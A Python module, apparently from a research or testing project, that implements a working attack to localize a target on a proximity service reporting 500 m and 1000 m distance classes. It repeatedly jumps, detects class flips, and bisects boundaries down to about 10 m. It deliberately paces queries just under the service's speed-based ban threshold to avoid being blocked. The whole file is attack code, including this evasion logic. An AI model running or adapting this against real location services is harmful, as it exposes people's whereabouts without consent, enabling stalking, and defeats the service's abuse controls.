"""Boundary-probing localization attack.

A single walker circles the target's 500 m region: pick a random direction
that stays inside, jump outward until the reported class flips to 1000 m,
bisect the flip down to the configured accuracy, then walk back in and
harvest the reverse crossing on the way. The walker keeps a virtual clock
and advances it just enough per move to stay under the service's implied
speed threshold, so a default run never gets banned.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from enum import Enum

from .geo import GeoPoint, destination, distance, midpoint
from .service import DEFAULT_SPEED_LIMIT_MPS, QueryRejected, dumps, is_number, read_jsonl, required

INNER_CLASS_M = 500
OUTER_CLASS_M = 1000
PACE_MARGIN = 0.996  # walk at 99.6% of the ban threshold
PACE_SPEED_MPS = DEFAULT_SPEED_LIMIT_MPS * PACE_MARGIN
PACE_IDLE_S = 1.0  # clock tick for a zero-displacement re-query
START_PROBE_BUDGET = 48
START_PROBE_RADIUS_M = 1_000.0
DIRECTION_RETRIES = 32
DEFAULT_TRANSITIONS = 30
DEFAULT_STEP_M = 10.0  # target displacement per tile-size deployment


class TargetNotFoundError(RuntimeError):
    """No position reporting the inner class was found near the hint."""


class DirectionsExhaustedError(RuntimeError):
    """All sampled bearings left the region after one jump."""


class InconsistentOracleError(RuntimeError):
    """A probe returned a class outside the expected 500/1000 pair.

    Happens against the simulator near the poles, where a cell is smaller
    than the walker's jump, at mid latitudes on some pitches (class 2000 at
    40 deg on a 0.008 deg grid, at the equator on a 0.02 deg grid), and
    against a live service whose target moves mid-bisection.
    """


class AttackBannedError(RuntimeError):
    """The service rejected a query mid-run; reports the offending step."""

    def __init__(self, step: str, cause: QueryRejected):
        super().__init__(f"banned during {step}: {cause.code}")
        self.step = step
        self.cause = cause

    def __reduce__(self):
        # The default rebuilds from the message alone, which __init__ rejects.
        return type(self), (self.step, self.cause)


class _BudgetExhausted(RuntimeError):
    """The query budget is spent: the attack loop's end, any other caller's error."""


class Direction(str, Enum):
    OUT = "OUT"  # 500 -> 1000
    IN = "IN"  # 1000 -> 500


@dataclass(frozen=True)
class Transition:
    """One localized class flip.

    inside reports 500, outside reports 1000, regardless of the walk
    direction; the straddle width is at most the configured accuracy.
    """

    inside: GeoPoint
    outside: GeoPoint
    bearing: float
    direction: Direction
    queries_spent: int

    def midpoint(self) -> GeoPoint:
        return midpoint(self.inside, self.outside)


@dataclass
class ProbeConfig:
    accuracy: float = 10.0
    jump: float = 100.0
    max_queries: int = 1000

    def __post_init__(self) -> None:
        # Negated so that NaN fails too; an infinite jump lands nowhere.
        if not self.accuracy > 0:
            raise ValueError("accuracy must be positive")
        if not self.accuracy < self.jump < math.inf:
            raise ValueError("jump must exceed accuracy and be finite")


@dataclass
class TransitionSet:
    """Attack output plus query accounting.

    total_queries equals exploration_queries plus the sum of per-transition
    queries_spent; together they match the queries the service admitted.
    """

    target: str
    transitions: list[Transition] = field(default_factory=list)
    exploration_queries: int = 0
    total_queries: int = 0
    budget_exhausted: bool = False

    def __len__(self) -> int:
        return len(self.transitions)


def pace(prev_pos: GeoPoint, next_pos: GeoPoint, prev_ts: float) -> float:
    """Earliest next timestamp that keeps the implied speed under the ban
    threshold; a zero displacement still ticks the clock by one second."""
    d = distance(prev_pos, next_pos)
    if d == 0.0:
        return prev_ts + PACE_IDLE_S
    return prev_ts + d / PACE_SPEED_MPS


class ProbeSession:
    """Stateful walker: pacing, budget and per-transition query accounting.

    An emitted transition is charged every query since its outward probe or
    inward walk began; every query no transition was charged for is
    exploration. The walker's random draws come from `rng`, `Random(0)`
    when none is given.
    """

    def __init__(
        self,
        client,
        target: str,
        cfg: ProbeConfig | None = None,
        start_ts: float = 0.0,
        rng: random.Random | None = None,
    ):
        self.client = client
        self.target = target
        self.cfg = cfg or ProbeConfig()
        self.rng = rng if rng is not None else random.Random(0)
        self.queries = 0
        self._charged = 0
        self._mark = 0
        self._pos: GeoPoint | None = None
        self._ts = start_ts
        self._step = "start"
        # Bound once: query_class reads these on every query.
        self._search = client.search
        self._max_queries = self.cfg.max_queries

    @property
    def exploration_queries(self) -> int:
        return self.queries - self._charged

    def query_class(self, pos: GeoPoint) -> int | None:
        """Paced, budgeted query; returns the reported class for the target
        or None when the target is not listed."""
        if self.queries >= self._max_queries:
            raise _BudgetExhausted(f"query budget of {self._max_queries} spent")
        if self._pos is None:
            ts = self._ts
        else:
            ts = pace(self._pos, pos, self._ts)
        try:
            entries = self._search(pos, ts)
        except QueryRejected as exc:
            raise AttackBannedError(self._step, exc) from exc
        self._pos = pos
        self._ts = ts
        self.queries += 1
        for tid, cls in entries:
            if tid == self.target:
                return cls
        return None

    # -- attack phases ------------------------------------------------------

    def find_inward_start(self, hint: GeoPoint) -> GeoPoint:
        """Find a position whose reported class is 500, probing a 1 km disc
        around the hint after trying the hint itself."""
        self._step = "find-start"
        if self.query_class(hint) == INNER_CLASS_M:
            return hint
        for _ in range(START_PROBE_BUDGET - 1):
            r = START_PROBE_RADIUS_M * math.sqrt(self.rng.random())
            cand = destination(hint, self.rng.uniform(0.0, 360.0), r)
            if self.query_class(cand) == INNER_CLASS_M:
                return cand
        raise TargetNotFoundError(
            f"no inner-class position within {START_PROBE_BUDGET} probes of the hint"
        )

    def choose_direction(self, pos: GeoPoint) -> tuple[float, GeoPoint]:
        """Draw random bearings until one jump stays inside the region.

        Returns the accepted bearing and the already-queried landing point.
        """
        self._step = "choose-direction"
        for _ in range(DIRECTION_RETRIES):
            bearing = self.rng.uniform(0.0, 360.0)
            cand = destination(pos, bearing, self.cfg.jump)
            if self.query_class(cand) == INNER_CLASS_M:
                return bearing, cand
        raise DirectionsExhaustedError(f"{DIRECTION_RETRIES} bearings rejected from {pos}")

    def probe_outward(self, start: GeoPoint, bearing: float) -> tuple[GeoPoint, GeoPoint]:
        """Jump along the bearing until the class flips to 1000; returns the
        last-inside/first-outside pair."""
        self._step = "probe-outward"
        self._mark = self.queries
        cur = start
        while True:
            nxt = destination(cur, bearing, self.cfg.jump)
            cls = self.query_class(nxt)
            if cls == OUTER_CLASS_M:
                return cur, nxt
            if cls == INNER_CLASS_M:
                cur = nxt
                continue
            raise InconsistentOracleError(f"class {cls!r} while probing outward at {nxt}")

    def bisect_boundary(
        self,
        inside: GeoPoint,
        outside: GeoPoint,
        direction: Direction = Direction.OUT,
        bearing: float = 0.0,
    ) -> Transition:
        """Binary-search the straddle down to cfg.accuracy and emit the
        transition, charging it every query since the outward probe or
        inward walk that led here began."""
        self._step = "bisect"
        accuracy = self.cfg.accuracy
        # Each step about halves the straddle: the haversine of the half
        # offset differs from half the parent's by far less than 2x (under
        # about 5 % even for a 50 km straddle at 84.9 deg), so while the
        # halved estimate exceeds twice the accuracy, so does the straddle
        # the accuracy.
        span = distance(inside, outside)
        while span > accuracy:
            mid = midpoint(inside, outside)
            cls = self.query_class(mid)
            if cls == INNER_CLASS_M:
                inside = mid
            elif cls == OUTER_CLASS_M:
                outside = mid
            else:
                raise InconsistentOracleError(f"class {cls!r} while bisecting at {mid}")
            span = span / 2.0 if span > 4.0 * accuracy else distance(inside, outside)
        spent = self.queries - self._mark
        self._charged += spent
        return Transition(
            inside=inside,
            outside=outside,
            bearing=bearing,
            direction=direction,
            queries_spent=spent,
        )

    def walk_inward(self, start_outside: GeoPoint, bearing: float) -> Transition:
        """Walk back toward the region until the class flips to 500, then
        bisect and emit the IN transition."""
        self._step = "walk-inward"
        self._mark = self.queries
        cur = start_outside
        while True:
            nxt = destination(cur, bearing, self.cfg.jump)
            cls = self.query_class(nxt)
            if cls == INNER_CLASS_M:
                return self.bisect_boundary(nxt, cur, direction=Direction.IN, bearing=bearing)
            if cls == OUTER_CLASS_M:
                cur = nxt
                continue
            raise InconsistentOracleError(f"class {cls!r} while walking inward at {nxt}")


def collect_transitions(
    client,
    target: str,
    hint: GeoPoint,
    cfg: ProbeConfig | None = None,
    n_transitions: int = DEFAULT_TRANSITIONS,
    start_ts: float = 0.0,
    rng: random.Random | None = None,
) -> TransitionSet:
    """Run the full attack loop until the requested transition count is
    reached or the query budget runs out (partial set, flagged). A walk
    that cannot go on raises instead: `DirectionsExhaustedError` when no
    bearing keeps a jump inside the region, `InconsistentOracleError` on a
    class outside the 500/1000 pair."""
    cfg = cfg or ProbeConfig()
    sess = ProbeSession(client, target, cfg, start_ts=start_ts, rng=rng)
    collected: list[Transition] = []
    exhausted = False
    try:
        pos = sess.find_inward_start(hint)
        while len(collected) < n_transitions:
            bearing, cand = sess.choose_direction(pos)
            inside, outside = sess.probe_outward(cand, bearing)
            t_out = sess.bisect_boundary(inside, outside, direction=Direction.OUT, bearing=bearing)
            collected.append(t_out)
            if len(collected) >= n_transitions:
                break
            t_in = sess.walk_inward(t_out.outside, (bearing + 180.0) % 360.0)
            collected.append(t_in)
            pos = t_in.inside
    except _BudgetExhausted:
        exhausted = True
    return TransitionSet(
        target=target,
        transitions=collected,
        exploration_queries=sess.exploration_queries,
        total_queries=sess.queries,
        budget_exhausted=exhausted,
    )


# -- transitions file format ---------------------------------------------


def transition_record(target: str, t: Transition) -> dict:
    return {
        "target": target,
        "inside": [t.inside.lat, t.inside.lon],
        "outside": [t.outside.lat, t.outside.lon],
        "bearing": t.bearing,
        "dir": t.direction.value,
        "queries": t.queries_spent,
    }


def write_transitions(path: str, tset: TransitionSet, config: dict) -> None:
    """JSONL: a meta record first (accounting plus config echo), then one
    record per transition."""
    meta = {
        "type": "meta",
        "target": tset.target,
        "total_queries": tset.total_queries,
        "exploration_queries": tset.exploration_queries,
        "budget_exhausted": tset.budget_exhausted,
        "config": config,
    }
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(dumps(meta) + "\n")
        for t in tset.transitions:
            fh.write(dumps(transition_record(tset.target, t)) + "\n")


def _read_point(rec: dict, key: str) -> GeoPoint:
    value = required(rec, key)
    if not (isinstance(value, list) and len(value) == 2 and all(is_number(v) for v in value)):
        raise ValueError(f"{key}: expected a [lat, lon] pair of numbers, got {value!r}")
    try:
        return GeoPoint(value[0], value[1])
    except ValueError as exc:
        raise ValueError(f"{key}: {exc}") from exc


def _read_target(value, known: str | None) -> str:
    """A record's target, which must be `known` once an earlier record
    named one."""
    if type(value) is not str or not value:
        raise ValueError(f"target must be a non-empty string, got {value!r}")
    if known is not None and value != known:
        raise ValueError(f"target {value!r} differs from {known!r} named before")
    return value


def read_transitions(path: str) -> tuple[TransitionSet, dict]:
    """Inverse of write_transitions; returns the set and the meta record.
    A malformed line, such as one whose target is not a non-empty string
    or differs from the target an earlier record named, raises a
    ValueError that names `path:line`; a meta record may leave out its
    counts (0) and `budget_exhausted` (False)."""
    meta: dict = {}
    transitions: list[Transition] = []
    target = None

    def parse(rec: dict) -> None:
        nonlocal meta, target
        if rec.get("type") == "meta":
            meta = rec
            if "target" in rec:
                target = _read_target(rec["target"], target)
            for key in ("total_queries", "exploration_queries"):
                count = rec.get(key, 0)
                if type(count) is not int or count < 0:  # a bool is an int to isinstance
                    raise ValueError(f"{key} must be a non-negative int, got {count!r}")
            if not isinstance(rec.get("budget_exhausted", False), bool):
                raise ValueError(f"budget_exhausted must be a bool, got {rec['budget_exhausted']!r}")
            return
        target = _read_target(required(rec, "target"), target)
        inside = _read_point(rec, "inside")
        outside = _read_point(rec, "outside")
        bearing = required(rec, "bearing")
        if not is_number(bearing) or not math.isfinite(bearing):
            raise ValueError(f"bearing must be a finite number, got {bearing!r}")
        dir_value = required(rec, "dir")
        try:
            direction = Direction(dir_value)
        except ValueError as exc:
            raise ValueError(f"dir: {exc}") from exc
        queries = required(rec, "queries")
        if type(queries) is not int or queries < 0:
            raise ValueError(f"queries must be a non-negative int, got {queries!r}")
        transitions.append(Transition(inside, outside, bearing, direction, queries))

    read_jsonl(path, parse)
    if target is None:
        raise ValueError(f"{path}: no transition records")
    return (
        TransitionSet(
            target=target,
            transitions=transitions,
            exploration_queries=meta.get("exploration_queries", 0),
            total_queries=meta.get("total_queries", 0),
            budget_exhausted=meta.get("budget_exhausted", False),
        ),
        meta,
    )
